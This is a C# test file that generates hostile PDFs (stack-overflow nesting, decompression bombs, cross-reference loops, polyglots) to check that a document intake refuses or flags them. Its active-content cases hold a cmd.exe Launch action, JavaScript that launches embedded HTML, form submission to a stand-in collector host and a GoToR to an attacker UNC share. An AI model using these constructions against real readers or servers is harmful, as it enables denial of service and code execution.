using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace ComplianceReview.Tests.Documents.Hostile;

/// <summary>What the intake must make of a corpus file: refused for a reason, or accepted with active content flagged.</summary>
public enum HostileExpectation
{
    Refused,
    AcceptedWithActiveContent,
}

/// <param name="Name">Stable name (test case display and benchmark parameter).</param>
/// <param name="Build">Makes the file; cached by <see cref="HostilePdfs"/>.</param>
/// <param name="Reason">The refusal expected (a name of <c>OrderDocumentRefusal</c>), or the active content expected
/// (names of <c>DocumentActiveContent</c>, comma-separated).</param>
public sealed record HostileCase(string Name, HostileExpectation Expectation, string Reason, Func<byte[]> Build);

/// <summary>
/// Hostile and malformed PDFs, made by code so every one is reproducible and says what it attacks: nesting that overflows
/// a recursive parser's stack (in plain objects and inside compressed object streams), Flate bombs, cross-reference loops,
/// truncation, polyglots, page trees that never end, and every kind of active content. Each is well-formed apart from its
/// attack, so the defence that refuses it is the one meant. Shared with the benchmark project (compiled there by link).
/// </summary>
public static class HostilePdfs
{
    private static readonly Dictionary<string, Lazy<byte[]>> Built = [];

    public static readonly IReadOnlyList<HostileCase> All =
    [
        // Nesting: PDFsharp's recursive parser overflowed the stack at 20,000 levels and killed the process.
        Refused("DeepArrays20000", "NestingTooDeep", () => DeepInUnreferencedObject(20_000, "[", "]")),
        Refused("DeepArrays50000", "NestingTooDeep", () => DeepInUnreferencedObject(50_000, "[", "]")),
        Refused("DeepArrays1000000", "NestingTooDeep", () => DeepInUnreferencedObject(1_000_000, "[", "]")),
        Refused("DeepDictionaries20000", "NestingTooDeep", () => DeepInUnreferencedObject(20_000, "<< /A ", " >>")),
        Refused("DeepDictionaries50000", "NestingTooDeep", () => DeepInUnreferencedObject(50_000, "<< /A ", " >>")),
        Refused("DeepDictionaries1000000", "NestingTooDeep", () => DeepInUnreferencedObject(1_000_000, "<</A ", ">>")),
        Refused("DeepArraysInObjectStream20000", "NestingTooDeep", () => DeepInObjectStream(20_000, "[", "]")),
        Refused("DeepArraysInObjectStream50000", "NestingTooDeep", () => DeepInObjectStream(50_000, "[", "]")),
        Refused("DeepArraysInObjectStream1000000", "NestingTooDeep", () => DeepInObjectStream(1_000_000, "[", "]")),
        Refused("DeepDictionariesInObjectStream1000000", "NestingTooDeep", () => DeepInObjectStream(1_000_000, "<</A ", ">>")),
        Refused("DeepNestingInTrailer", "NestingTooDeep", DeepTrailer),

        // Flate bombs: a 1 MB object stream inflated to 1 GiB took the server from 261 MB to 5.3 GB.
        Refused("FlateBombContentStream1GiB", "DecompressionBomb", () => ContentBomb(1L << 30)),
        Refused("FlateBombObjectStream1GiB", "DecompressionBomb", () => ObjectStreamBomb(1L << 30)),
        Refused("FlateBombCrossReferenceStream", "DecompressionBomb", CrossReferenceStreamBomb),
        Refused("ManySmallFlateBombs", "DecompressionBomb", () => ManyBombs(300, 1024 * 1024)),

        // Cross-reference: loops PDFsharp would follow for ever, offsets into nowhere, lengths beyond the file.
        Refused("CrossReferenceLoopTwoTables", "CrossReferenceLoop", () => CrossReferenceLoop(selfLoop: false)),
        Refused("CrossReferenceLoopSelf", "CrossReferenceLoop", () => CrossReferenceLoop(selfLoop: true)),
        Refused("CrossReferenceOffsetIntoGarbage", "Unreadable", OffsetIntoGarbage),
        Refused("StreamLengthBeyondFile", "Truncated", () => StreamWithLength("2000000000")),
        Refused("StreamLengthIsAnArray", "Unreadable", () => StreamWithLength("[5]")),
        Refused("ObjectStreamClaimsBillionObjects", "TooComplex", HugeObjectStreamCount),

        // Truncated.
        Refused("TruncatedHalf", "Truncated", () => Valid()[..(Valid().Length / 2)]),
        Refused("TruncatedWithEofAppended", "Unreadable", TruncatedWithEof),
        Refused("TruncatedInsideString", "Truncated", UnterminatedString),

        // Polyglots.
        Refused("PolyglotZipAppended", "Polyglot", ZipAppended),
        Refused("PolyglotZipInsideStream", "Polyglot", ZipInsideStream),
        Refused("PolyglotHtmlPrefix", "NotPdf", () => [.. "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"u8, .. Valid()]),
        Refused("PolyglotHtmlBetweenObjects", "Polyglot", HtmlBetweenObjects),

        // Page trees.
        Refused("PageTree20000Pages", "PageTreeTooLarge", () => FlatPageTree(20_000)),
        Refused("PageTree1000000PagesInObjectStreams", "TooComplex", () => CompressedPageTree(1_000_000)),
        Refused("PageTree100LevelsDeep", "PageTreeTooLarge", () => DeepPageTree(100)),
        Refused("PageTreeLoop", "PageTreeLoop", PageTreeLoop),

        // Limits on size of structure.
        Refused("HalfAMillionNumbers", "TooComplex", () => ManyValues(600_000)),
        Refused("TwoMegabyteString", "TooComplex", () => LongString(2 * 1024 * 1024)),
        Refused("Encrypted", "Encrypted", Encrypted),

        // Active content: accepted, kept, flagged.
        Active("JavaScriptOpenAction", "JavaScript", () => Document("/OpenAction << /S /JavaScript /JS (app.alert\\('opened'\\)) >>")),
        Active("JavaScriptNameTree", "JavaScript", () => Document("/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>")),
        Active("JavaScriptObfuscatedName", "JavaScript", () => Document("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
        Active("JavaScriptInObjectStream", "JavaScript", JavaScriptInObjectStream),
        Active("LaunchAction", "LaunchAction", () => Document("/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")),
        Active("UriAction", "UriAction", () => Document("", "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>")),
        Active("SubmitForm", "FormSubmission", () => Document("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >>")),
        Active("RemoteGoTo", "RemoteDocument", () => Document("/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
        Active("EmbeddedHtmlFile", "EmbeddedFile", EmbeddedHtml),
        Active("XfaForm", "XfaForm", () => Document("/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>")),
        Active("RichMedia", "RichMedia", () => Document("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>]")),
        Active("JavaScriptAndEmbeddedHtml", "JavaScript, EmbeddedFile", JavaScriptAndEmbeddedHtml),
    ];

    /// <summary>A valid order near every bound at once (objects, values, strings, structure streams): what PDFsharp may be handed at worst.</summary>
    public static readonly HostileCase AtTheLimits = new("AtTheLimits", HostileExpectation.AcceptedWithActiveContent, "JavaScript", AtLimits);

    public static byte[] Bytes(HostileCase c)
    {
        lock (Built)
        {
            if (!Built.TryGetValue(c.Name, out var lazy)) Built[c.Name] = lazy = new Lazy<byte[]>(c.Build);
            return lazy.Value;
        }
    }

    public static HostileCase Case(string name) => All.Concat([AtTheLimits]).Single(c => c.Name == name);

    private static HostileCase Refused(string name, string reason, Func<byte[]> build) => new(name, HostileExpectation.Refused, reason, build);

    private static HostileCase Active(string name, string kinds, Func<byte[]> build) => new(name, HostileExpectation.AcceptedWithActiveContent, kinds, build);

    /// <summary>A plain valid order (classic cross-reference table).</summary>
    public static byte[] Valid()
    {
        var pdf = new RawPdf();
        return pdf.Write(pdf.AddMinimalDocument());
    }

    /// <summary>A plain valid order with its objects in an object stream and a cross-reference stream (PDF 1.5 style).</summary>
    public static byte[] ValidCompressed()
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var pages = pdf.Reserve();
        var page = pdf.Reserve();
        var content = pdf.AddFlateStream("", "0 0 m 100 100 l S"u8.ToArray());
        pdf.AddObjectStream(
        [
            (catalog, Invariant($"<< /Type /Catalog /Pages {pages} 0 R >>")),
            (pages, Invariant($"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")),
            (page, Invariant($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] /Contents {content} 0 R >>")),
        ]);
        return pdf.Write(catalog, crossReferenceStream: true);
    }

    private static readonly Lazy<byte[]> ScannedOrderOf20MB = new(() => ScannedOrder(20L * 1024 * 1024));

    /// <summary>A valid order of just under 20 MB, as a scanner writes one: a Flate-compressed grey image per page (cached).</summary>
    public static byte[] ScannedOrder20MB => ScannedOrderOf20MB.Value;

    /// <summary>
    /// Pages of 1,240 x 1,754 grey pixels (A4 at 150 dpi) with a noisy background, each Flate-compressed to about 1.5 MB,
    /// as many as fit under <paramref name="maxBytes"/>. Seeded, so every run builds the same file.
    /// </summary>
    public static byte[] ScannedOrder(long maxBytes)
    {
        const int width = 1240, height = 1754;
        var random = new Random(20);
        var pixels = new byte[width * height];
        var image = (Func<byte[]>)(() =>
        {
            for (var i = 0; i < pixels.Length; i++) pixels[i] = (byte)(200 + random.Next(32));
            return RawPdf.Deflate(pixels);
        });
        var pages = new List<byte[]>();
        long total = 4096;
        while (true)
        {
            var next = image();
            if (total + next.Length > maxBytes) break;
            pages.Add(next);
            total += next.Length + 512;
        }
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var tree = pdf.Reserve();
        var kids = new StringBuilder();
        foreach (var data in pages)
        {
            var xobject = pdf.AddStream(Invariant($"/Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"), data);
            var content = pdf.AddStream("", "q 595 0 0 842 0 0 cm /Im0 Do Q"u8.ToArray());
            var page = pdf.Add(Invariant($"<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 {xobject} 0 R >> >> /Contents {content} 0 R >>"));
            kids.Append(CultureInfo.InvariantCulture, $"{page} 0 R ");
        }
        pdf.Set(tree, Invariant($"<< /Type /Pages /Kids [{kids}] /Count {pages.Count} >>"));
        pdf.Set(catalog, Invariant($"<< /Type /Catalog /Pages {tree} 0 R >>"));
        return pdf.Write(catalog);
    }

    private static byte[] Document(string catalogEntries, string pageEntries = "")
    {
        var pdf = new RawPdf();
        return pdf.Write(pdf.AddMinimalDocument(catalogEntries, pageEntries));
    }

    private static byte[] Nested(int depth, string open, string close)
    {
        var o = RawPdf.Latin1(open);
        var c = RawPdf.Latin1(close);
        var bytes = new byte[depth * (o.Length + c.Length)];
        for (var i = 0; i < depth; i++) o.CopyTo(bytes, i * o.Length);
        for (var i = 0; i < depth; i++) c.CopyTo(bytes, depth * o.Length + i * c.Length);
        // A dictionary needs a value for its last key.
        return open.StartsWith("<<", StringComparison.Ordinal) ? [.. bytes[..(depth * o.Length)], .. "1"u8, .. bytes[(depth * o.Length)..]] : bytes;
    }

    /// <summary>The issue's file: a valid document plus one object nobody references, nested <paramref name="depth"/> levels.</summary>
    private static byte[] DeepInUnreferencedObject(int depth, string open, string close)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.AddRaw(Nested(depth, open, close));
        return pdf.Write(catalog);
    }

    private static byte[] DeepInObjectStream(int depth, string open, string close)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.AddObjectStream([(pdf.Reserve(), Nested(depth, open, close))]);
        return pdf.Write(catalog, crossReferenceStream: true);
    }

    private static byte[] DeepTrailer()
    {
        var pdf = new RawPdf();
        return pdf.Write(pdf.AddMinimalDocument(), trailer: "/Junk " + Encoding.Latin1.GetString(Nested(100_000, "[", "]")));
    }

    private static byte[] ContentBomb(long inflated)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.AddStream("/Filter /FlateDecode", RawPdf.DeflateRepeated((byte)' ', inflated));
        return pdf.Write(catalog);
    }

    /// <summary>An object stream whose one member is followed by 1 GiB of white space: PDFsharp inflated it whole.</summary>
    private static byte[] ObjectStreamBomb(long inflated)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var member = pdf.Reserve();
        var header = RawPdf.Latin1(Invariant($"{member} 0 "));
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(header);
            zlib.Write("<< /A 1 >>"u8);
            var chunk = new byte[1024 * 1024];
            Array.Fill(chunk, (byte)' ');
            for (var left = inflated; left > 0; left -= chunk.Length) zlib.Write(chunk, 0, (int)Math.Min(chunk.Length, left));
        }
        var number = pdf.AddStream(Invariant($"/Type /ObjStm /N 1 /First {header.Length} /Filter /FlateDecode"), compressed.ToArray());
        return WriteWithCompressedMember(pdf, catalog, member, number);
    }

    private static byte[] WriteWithCompressedMember(RawPdf pdf, int catalog, int member, int objectStream)
    {
        // The writer lists compressed members only for streams it built; this one is hand-made, so list it by hand.
        var file = pdf.Write(catalog, crossReferenceStream: true);
        return ReplaceXrefEntry(file, member, objectStream);
    }

    /// <summary>Rewrites the cross-reference stream so <paramref name="member"/> is compressed in <paramref name="objectStream"/>.</summary>
    private static byte[] ReplaceXrefEntry(byte[] file, int member, int objectStream)
    {
        var text = Encoding.Latin1.GetString(file);
        var xrefAt = text.LastIndexOf("/Type /XRef", StringComparison.Ordinal);
        var objStart = text.LastIndexOf(" 0 obj", xrefAt, StringComparison.Ordinal);
        objStart = text.LastIndexOf('\n', objStart) + 1;
        var streamStart = text.IndexOf("stream\n", xrefAt, StringComparison.Ordinal) + "stream\n".Length;
        var lengthAt = text.IndexOf("/Length ", xrefAt, StringComparison.Ordinal) + "/Length ".Length;
        var length = int.Parse(text[lengthAt..text.IndexOf(' ', lengthAt)], CultureInfo.InvariantCulture);
        using var inflated = new MemoryStream();
        using (var zlib = new ZLibStream(new MemoryStream(file, streamStart, length), CompressionMode.Decompress)) zlib.CopyTo(inflated);
        var entries = inflated.ToArray();
        entries[member * 7] = 2;
        entries[member * 7 + 1] = 0;
        entries[member * 7 + 2] = 0;
        entries[member * 7 + 3] = (byte)(objectStream >> 8);
        entries[member * 7 + 4] = (byte)objectStream;
        entries[member * 7 + 5] = 0;
        entries[member * 7 + 6] = 0;
        var data = RawPdf.Deflate(entries);
        var head = text[objStart..streamStart].Replace(Invariant($"/Length {length} "), Invariant($"/Length {data.Length} "), StringComparison.Ordinal);
        return [.. file[..objStart], .. RawPdf.Latin1(head), .. data, .. RawPdf.Latin1(Invariant($"\nendstream\nendobj\nstartxref\n{objStart}\n%%EOF\n"))];
    }

    /// <summary>A cross-reference stream that inflates to 64 MB of free entries: the structure budget (8 MiB) stops it.</summary>
    private static byte[] CrossReferenceStreamBomb()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var file = pdf.Write(catalog, crossReferenceStream: true);
        var text = Encoding.Latin1.GetString(file);
        var start = text.LastIndexOf("startxref", StringComparison.Ordinal);
        var bomb = RawPdf.DeflateRepeated(0, 64L * 1024 * 1024);
        var at = file.Length - (file.Length - start);
        var body = RawPdf.Latin1(Invariant($"99 0 obj\n<< /Type /XRef /Size 100 /W [1 4 2] /Root {catalog} 0 R /Filter /FlateDecode /Length {bomb.Length} >>\nstream\n"));
        return [.. file[..at], .. body, .. bomb, .. RawPdf.Latin1(Invariant($"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n"))];
    }

    private static byte[] ManyBombs(int count, int compressedZeros)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var one = RawPdf.DeflateRepeated(0, compressedZeros);
        for (var i = 0; i < count; i++) pdf.AddStream("/Filter /FlateDecode", one);
        return pdf.Write(catalog);
    }

    /// <summary>Two tables whose /Prev point at each other (or one pointing at itself): PDFsharp reads them for ever.</summary>
    private static byte[] CrossReferenceLoop(bool selfLoop)
    {
        var valid = Encoding.Latin1.GetString(Valid());
        var first = valid.LastIndexOf("\nxref\n", StringComparison.Ordinal) + 1;
        var body = valid[..first];
        var table = valid[first..valid.IndexOf("trailer", first, StringComparison.Ordinal)];
        var trailer = valid[valid.IndexOf("trailer", first, StringComparison.Ordinal)..valid.IndexOf("startxref", first, StringComparison.Ordinal)];
        string WithPrev(int prev) => trailer.Replace(">>", Invariant($"/Prev {prev:D10} >>"), StringComparison.Ordinal);
        if (selfLoop) return RawPdf.Latin1(body + table + WithPrev(first) + Invariant($"startxref\n{first}\n%%EOF\n"));
        // Offsets have a fixed width, so both sections are as long as each other whatever they point at.
        var second = first + table.Length + WithPrev(0).Length;
        return RawPdf.Latin1(body + table + WithPrev(second) + table + WithPrev(first) + Invariant($"startxref\n{first}\n%%EOF\n"));
    }

    private static byte[] OffsetIntoGarbage()
    {
        var text = Encoding.Latin1.GetString(Valid());
        var xref = text.LastIndexOf("\nxref\n", StringComparison.Ordinal) + 1;
        var entry = text.IndexOf(" 00000 n", xref, StringComparison.Ordinal) - 10;
        return RawPdf.Latin1(text[..entry] + "0000000003" + text[(entry + 10)..]);
    }

    private static byte[] StreamWithLength(string length)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.AddRaw(RawPdf.Latin1(Invariant($"<< /Length {length} >>\nstream\nabc\nendstream")));
        return pdf.Write(catalog);
    }

    private static byte[] HugeObjectStreamCount()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var member = pdf.Reserve();
        var content = RawPdf.Latin1(Invariant($"{member} 0 << >>"));
        var number = pdf.AddStream("/Type /ObjStm /N 1000000000 /First 4 /Filter /FlateDecode", RawPdf.Deflate(content));
        return WriteWithCompressedMember(pdf, catalog, member, number);
    }

    private static byte[] TruncatedWithEof()
    {
        var valid = Valid();
        return [.. valid[..(valid.Length * 2 / 3)], .. "\nstartxref\n9\n%%EOF\n"u8];
    }

    private static byte[] UnterminatedString()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.Add("(this string never ends \\) and neither does this one");
        return pdf.Write(catalog);
    }

    private static byte[] ZipArchive()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = zip.CreateEntry("payload.html");
            using var writer = new StreamWriter(entry.Open());
            writer.Write("<script>alert(document.cookie)</script>");
        }
        return output.ToArray();
    }

    /// <summary>A ZIP after the PDF's end, then a repeated startxref so the PDF's tail still looks whole.</summary>
    private static byte[] ZipAppended()
    {
        var valid = Valid();
        var text = Encoding.Latin1.GetString(valid);
        var at = text.LastIndexOf("startxref\n", StringComparison.Ordinal) + "startxref\n".Length;
        var offset = text[at..text.IndexOf('\n', at)];
        return [.. valid, .. ZipArchive(), .. RawPdf.Latin1($"\nstartxref\n{offset}\n%%EOF\n")];
    }

    /// <summary>A ZIP stored in a stream object, last in the file: a ZIP reader finds its directory from the end.</summary>
    private static byte[] ZipInsideStream()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.AddStream("", ZipArchive());
        return pdf.Write(catalog);
    }

    private static byte[] HtmlBetweenObjects()
    {
        var pdf = new RawPdf { AfterHeader = "<html><body><script>fetch('/api/demands')</script></body></html>\n"u8.ToArray() };
        return pdf.Write(pdf.AddMinimalDocument());
    }

    private static byte[] FlatPageTree(int count)
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var pages = pdf.Reserve();
        var kids = new StringBuilder();
        for (var i = 0; i < count; i++) kids.Append(CultureInfo.InvariantCulture, $"{pdf.Add(Invariant($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 9 9] >>"))} 0 R ");
        pdf.Set(pages, Invariant($"<< /Type /Pages /Kids [{kids}] /Count {count} >>"));
        pdf.Set(catalog, Invariant($"<< /Type /Catalog /Pages {pages} 0 R >>"));
        return pdf.Write(catalog);
    }

    /// <summary>A root with 1,000 nodes of 1,000 pages each, all in object streams: a small file with a million pages.</summary>
    private static byte[] CompressedPageTree(int count)
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var root = pdf.Reserve();
        var members = new List<(int, string)>();
        var nodes = new StringBuilder();
        for (var n = 0; n < count / 1000; n++)
        {
            var node = pdf.Reserve();
            var kids = new StringBuilder();
            for (var i = 0; i < 1000; i++)
            {
                var page = pdf.Reserve();
                members.Add((page, Invariant($"<</Type/Page/Parent {node} 0 R>>")));
                kids.Append(CultureInfo.InvariantCulture, $"{page} 0 R ");
            }
            members.Add((node, Invariant($"<</Type/Pages/Parent {root} 0 R/Kids[{kids}]/Count 1000>>")));
            nodes.Append(CultureInfo.InvariantCulture, $"{node} 0 R ");
        }
        for (var i = 0; i < members.Count; i += 100_000) pdf.AddObjectStream(members.Skip(i).Take(100_000).ToList());
        pdf.Set(root, Invariant($"<< /Type /Pages /Kids [{nodes}] /Count {count} >>"));
        pdf.Set(catalog, Invariant($"<< /Type /Catalog /Pages {root} 0 R >>"));
        return pdf.Write(catalog, crossReferenceStream: true);
    }

    private static byte[] DeepPageTree(int depth)
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var nodes = Enumerable.Range(0, depth).Select(_ => pdf.Reserve()).ToList();
        var page = pdf.Add(Invariant($"<< /Type /Page /Parent {nodes[^1]} 0 R /MediaBox [0 0 9 9] >>"));
        for (var i = 0; i < depth; i++)
        {
            var kid = i + 1 < depth ? nodes[i + 1] : page;
            pdf.Set(nodes[i], Invariant($"<< /Type /Pages /Kids [{kid} 0 R] /Count 1 >>"));
        }
        pdf.Set(catalog, Invariant($"<< /Type /Catalog /Pages {nodes[0]} 0 R >>"));
        return pdf.Write(catalog);
    }

    private static byte[] PageTreeLoop()
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var pages = pdf.Reserve();
        var inner = pdf.Reserve();
        var page = pdf.Add(Invariant($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 9 9] >>"));
        pdf.Set(inner, Invariant($"<< /Type /Pages /Parent {pages} 0 R /Kids [{pages} 0 R] /Count 1 >>"));
        pdf.Set(pages, Invariant($"<< /Type /Pages /Kids [{page} 0 R {inner} 0 R] /Count 2 >>"));
        pdf.Set(catalog, Invariant($"<< /Type /Catalog /Pages {pages} 0 R >>"));
        return pdf.Write(catalog);
    }

    private static byte[] ManyValues(int count)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var array = new StringBuilder("[");
        for (var i = 0; i < count; i++) array.Append("1 ");
        pdf.Add(array.Append(']').ToString());
        return pdf.Write(catalog);
    }

    private static byte[] LongString(int length)
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        pdf.Add("(" + new string('x', length) + ")");
        return pdf.Write(catalog);
    }

    /// <summary>A standard-security-handler dictionary in the trailer (RC4, empty user password), as an owner-locked scan has.</summary>
    private static byte[] Encrypted()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument();
        var encrypt = pdf.Add("<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <" + new string('A', 64) + "> /U <" + new string('B', 64) + "> >>");
        return pdf.Write(catalog, trailer: Invariant($"/Encrypt {encrypt} 0 R /ID [<0123456789ABCDEF0123456789ABCDEF> <0123456789ABCDEF0123456789ABCDEF>]"));
    }

    private static byte[] JavaScriptInObjectStream()
    {
        var pdf = new RawPdf();
        var catalog = pdf.Reserve();
        var pages = pdf.Reserve();
        var page = pdf.Reserve();
        var action = pdf.Reserve();
        pdf.AddObjectStream(
        [
            (catalog, Invariant($"<< /Type /Catalog /Pages {pages} 0 R /OpenAction {action} 0 R >>")),
            (pages, Invariant($"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")),
            (page, Invariant($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] >>")),
            (action, "<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x', nLaunch: 2}\\)) >>"),
        ]);
        return pdf.Write(catalog, crossReferenceStream: true);
    }

    private static byte[] EmbeddedHtml()
    {
        var pdf = new RawPdf();
        var file = pdf.AddStream("/Type /EmbeddedFile /Subtype /text#2Fhtml", "<html><script>alert(1)</script></html>"u8.ToArray());
        var spec = pdf.Add(Invariant($"<< /Type /Filespec /F (invoice.html) /EF << /F {file} 0 R >> >>"));
        return pdf.Write(pdf.AddMinimalDocument(Invariant($"/Names << /EmbeddedFiles << /Names [(invoice.html) {spec} 0 R] >> >>")));
    }

    /// <summary>The issue's third file: a JavaScript /OpenAction and an embedded HTML file.</summary>
    private static byte[] JavaScriptAndEmbeddedHtml()
    {
        var pdf = new RawPdf();
        var file = pdf.AddStream("/Type /EmbeddedFile", "<html><script>alert(1)</script></html>"u8.ToArray());
        var spec = pdf.Add(Invariant($"<< /Type /Filespec /F (a.html) /EF << /F {file} 0 R >> >>"));
        return pdf.Write(pdf.AddMinimalDocument(Invariant(
            $"/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({{cName: 'a.html', nLaunch: 2}}\\)) >> /Names << /EmbeddedFiles << /Names [(a.html) {spec} 0 R] >> >>")));
    }

    /// <summary>
    /// Valid, and close to the scan's bounds together: 47,500 objects in object streams inflating to ~7.7 MB (the structure
    /// budget is 8 MiB), ~100,000 values, 3.6 MB of strings, 60 levels of nesting, and JavaScript. PDFsharp parses all of it.
    /// </summary>
    private static byte[] AtLimits()
    {
        var pdf = new RawPdf();
        var catalog = pdf.AddMinimalDocument("/OpenAction << /S /JavaScript /JS (1) >>");
        pdf.AddRaw(Nested(60, "[", "]"));
        var text = new string('s', 900 * 1024);
        for (var i = 0; i < 4; i++) pdf.Add("(" + text + ")");
        var padded = "7" + new string(' ', 150);
        var members = new List<(int, string)>();
        for (var i = 0; i < 47_500; i++) members.Add((pdf.Reserve(), padded));
        for (var i = 0; i < members.Count; i += 10_000) pdf.AddObjectStream(members.Skip(i).Take(10_000).ToList());
        return pdf.Write(catalog, crossReferenceStream: true);
    }

    private static string Invariant(FormattableString text) => text.ToString(CultureInfo.InvariantCulture);
}
